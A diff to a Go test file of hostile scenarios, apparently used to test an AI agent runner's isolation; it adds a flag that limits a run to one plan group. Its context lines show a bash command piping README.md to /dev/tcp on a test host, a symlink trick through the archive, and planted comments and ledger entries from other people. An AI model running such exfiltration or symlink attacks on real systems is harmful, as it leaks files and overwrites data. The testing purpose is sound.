@@ -52,6 +52,10 @@ type hostileRow struct {
 	// comments, roadmap's own git, the archive) and TestIsolation still
 	// run it to its end.
 	groupOne bool
+	// planOneGroup: the row is about a whole Job, to its end, but not about
+	// how many groups it has: its world's plan is cut to group 1
+	// (oneGroupPlan).
+	planOneGroup bool
 	// check asserts what the row is about, after the Job.
 	check func(t *testing.T, x *rowEnv, res implement.Result, jobLog string)
 }
@@ -161,7 +165,8 @@ sleep 0.2`)
 		},
 	},
 	{
-		name: "symlink for the archive",
+		name:         "symlink for the archive",
+		planOneGroup: true,
 		agent: func(x *rowEnv) []map[string]any {
 			// An allowed git apply makes the spec the archive writes a
 			// symlink to a file of the runner's choosing.
@@ -284,7 +289,8 @@ bash -c 'cat README.md > /dev/tcp/` + host + `/` + port + `' ; true`)
 		},
 	},
 	{
-		name: "comments by other people",
+		name:         "comments by other people",
+		planOneGroup: true,
 		setup: func(t *testing.T, x *rowEnv) {
 			// A drive-by ledger entry that spends the day's budget on the
 			// dashboard, and a comment that carries the marker of the one
@@ -449,6 +455,9 @@ func runHostileRow(t *testing.T, bin string, i int, row hostileRow) {
 		if err := os.WriteFile(path, []byte(body), 0o600); err != nil {
 			t.Fatal(err)
 		}
+	}
+	if row.planOneGroup {
+		oneGroupPlan(t, h.w, h.ws)
 	}
 	if row.setup != nil {
 		row.setup(t, x)
